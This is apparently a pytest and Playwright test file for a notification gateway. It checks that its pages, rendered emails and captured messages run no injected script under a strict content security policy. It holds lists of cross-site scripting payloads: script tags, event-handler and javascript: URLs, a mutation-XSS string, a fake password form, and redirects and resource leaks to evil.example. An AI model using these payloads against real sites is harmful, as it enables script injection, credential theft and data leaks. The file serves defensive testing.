"""Script in what the gateway shows: never written into a page, and if it were, never run, in a real browser."""

from __future__ import annotations

import re
import time
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from playwright.async_api import Page, Route

from gateway.bootstrap.assemble import signing_secret
from gateway.router.links import Links, Reader
from tests.attacks.conftest import House, a_send
from tests.attacks.every_operation import EVERY, path_of
from tests.support.browser import chromium_or_skip, open_browser
from tests.support.gateway import settings_of

RUN = "window.pwned = 1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"' autofocus onfocus='{RUN}' x='",
    f"<svg/onload={RUN.replace(' ', '')}>",
    f"[x](javascript:{RUN.replace(' ', '')})",
    f"![x](https://evil.example/x.png)<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"</title></style></textarea><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN.replace(' ', '')}></style></mglyph></table></mtext>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
]
INJECTED = [
    f'<img src="data:," onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    '<img src="https://evil.example/leak">',
    '<link rel="stylesheet" href="https://evil.example/leak.css">',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
]


def _pages(house: House, links: dict[str, str]) -> dict[str, httpx.Response]:
    """Find everything that a browser would take for a page, among all that can be asked for."""
    found = {}
    for operation in EVERY:
        if operation.method == "GET" and not operation.path.endswith("/wait"):
            path = links.get(operation.path) or path_of(operation)
            answer = house.client.get(path)
            if "html" in answer.headers["content-type"]:
                found[path] = answer
    return found


@pytest.fixture(scope="module")
def links(house: House) -> dict[str, str]:
    """Seal links for an address that is an attack in itself: whoever may send may name one."""
    settings = settings_of(house.folder, {})
    made = Links([signing_secret(settings)], "", unsubscribe_days=60, preferences_days=30)
    reader = Reader(
        channel="email", address=f'"<img/src=x/onerror={RUN.replace(" ", "")}>"@example.com', user=None, locale="en"
    )
    until_s = int(time.time()) + 3600
    return {
        "/unsubscribe/{token}": made.leave_path(reader, HOSTILE[0], until_s),
        "/preferences/{token}": made.choose_path(reader, until_s, whole=True),
    }


def test_every_page_has_a_policy_under_which_no_inline_script_runs(house: House, links: dict[str, str]):
    pages = _pages(house, links)
    assert {"/schema", *links.values()} <= set(pages)
    for path, page in pages.items():
        assert page.status_code == 200, path
        policy = page.headers["content-security-policy"].split(";")
        rules = {name: sources for name, _, sources in (rule.strip().partition(" ") for rule in policy)}
        assert rules["default-src"] == "'none'", path
        assert rules.get("script-src", "'none'") in {"'none'", "'self'"}, path
        assert rules["base-uri"] == "'none'"
        assert rules["frame-ancestors"] == "'none'"
        assert rules["form-action"] in {"'none'", "'self'"}
        for name, sources in rules.items():
            assert "unsafe-eval" not in sources, path
            assert "unsafe-inline" not in sources or name == "style-src", path
            assert not re.search(r"https?:|\*|blob:", sources), path
        for header, value in {"x-content-type-options": "nosniff", "referrer-policy": "no-referrer"}.items():
            assert page.headers[header] == value
        # A frame that shows what others wrote has an origin of its own, which nothing of ours belongs to.
        for frame in re.findall(r"<iframe[^>]*>", page.text):
            assert "sandbox" in frame, path
            assert "allow-same-origin" not in frame, path


def test_whatever_is_no_page_cannot_be_taken_for_one(house: House):
    for hostile in HOSTILE:
        for answer in (
            house.client.get("/nope", params={"q": hostile}),
            house.client.get(f"/v1/templates/{hostile.replace('/', '')}"),
            house.client.post("/v1/notifications", json=a_send(template=hostile, **{hostile: 1})),
            house.client.post("/v1/callbacks/x", content=hostile),
            house.client.get("/unsubscribe/" + hostile.replace("/", "")),
        ):
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "default-src 'none'" in answer.headers["content-security-policy"]
            if "html" in answer.headers["content-type"]:
                assert hostile not in answer.text


@pytest.fixture
async def page() -> AsyncIterator[Page]:
    chromium_or_skip()
    async with open_browser() as browser:
        yield await browser.new_page()


async def _watched(page: Page, house: House) -> list[str]:
    """Let the browser reach the gateway alone, and list what else it asks for."""
    elsewhere: list[str] = []

    async def route(asked: Route) -> None:
        if asked.request.url.startswith((str(house.process.url), "data:", "about:")):
            await asked.continue_()
        else:
            elsewhere.append(asked.request.url)
            await asked.abort()

    await page.route("**/*", route)
    return elsewhere


async def _is_unharmed(page: Page) -> bool:
    await page.wait_for_timeout(50)  # what would run does so after the page was loaded
    return await page.evaluate("window.pwned === undefined && !document.querySelector('[onerror],[onfocus],[onload]')")


@pytest.mark.browser
async def test_nothing_that_is_shown_runs_and_what_is_injected_does_not_either(
    house: House, links: dict[str, str], page: Page
):
    elsewhere = await _watched(page, house)
    for path in _pages(house, links):
        await page.goto(f"{house.process.url}{path}")
        assert await _is_unharmed(page), path
        for injected in INJECTED:
            await page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", injected)
        await page.evaluate(
            """run => {
                 const script = document.createElement('script');
                 script.textContent = run;
                 document.body.append(script);
                 const link = document.createElement('a');
                 link.href = 'javascript:' + run;
                 document.body.append(link);
                 link.click();
               }""",
            RUN,
        )
        await page.wait_for_timeout(100)
        assert await page.evaluate("window.pwned === undefined"), path
    assert elsewhere == []


@pytest.mark.browser
async def test_a_mail_made_of_hostile_words_runs_nothing_in_a_program_that_would_run_anything(house: House, page: Page):
    elsewhere = await _watched(page, house)
    for number, hostile in enumerate(HOSTILE):
        content = {"title": hostile, "body": f"{hostile}\n\n- {hostile}\n\n> {hostile}", "actions": []}
        more: dict[str, Any] = {"content": content, "reference": f"hostile-{number}", "category": "news"}
        sent = house.client.post("/v1/notifications", json={"to": {"email": "a@example.com", "name": hostile}, **more})
        if sent.status_code == 422:
            more["content"]["body"] = "Hi."
            sent = house.client.post("/v1/notifications", json={"to": {"email": "a@example.com"}, **more})
        assert sent.status_code == 202, sent.text
        query = {"reference": f"hostile-{number}", "timeout_s": 20}
        mail = house.client.get("/v1/captured/wait", params=query).json()
        await page.set_content(mail["html"], wait_until="domcontentloaded")
        assert await _is_unharmed(page), hostile
        assert await page.evaluate(
            "!document.querySelector('script,iframe,form,base,object,embed,meta[http-equiv=refresh]')"
        )
    assert not [url for url in elsewhere if "x.png" not in url]  # a picture by https is what Markdown is for


@pytest.mark.browser
async def test_a_captured_message_that_is_opened_in_a_browser_is_data(house: House, page: Page):
    content = {"title": "t", "body": HOSTILE[1]}
    house.client.post("/v1/notifications", json=a_send(reference="opened", content=content, metadata={"a": HOSTILE[0]}))
    query = {"reference": "opened", "timeout_s": 20}
    captured = house.client.get("/v1/captured/wait", params=query).json()
    await page.set_extra_http_headers({"Authorization": house.client.headers["authorization"]})
    for path in (f"/v1/captured/{captured['id']}", "/v1/notifications?reference=opened", "/metrics"):
        answer = await page.goto(f"{house.process.url}{path}")
        assert answer is not None
        assert answer.status == 200
        assert "html" not in answer.headers["content-type"]
        assert await page.evaluate("window.pwned === undefined && !document.querySelector('script,img')"), path
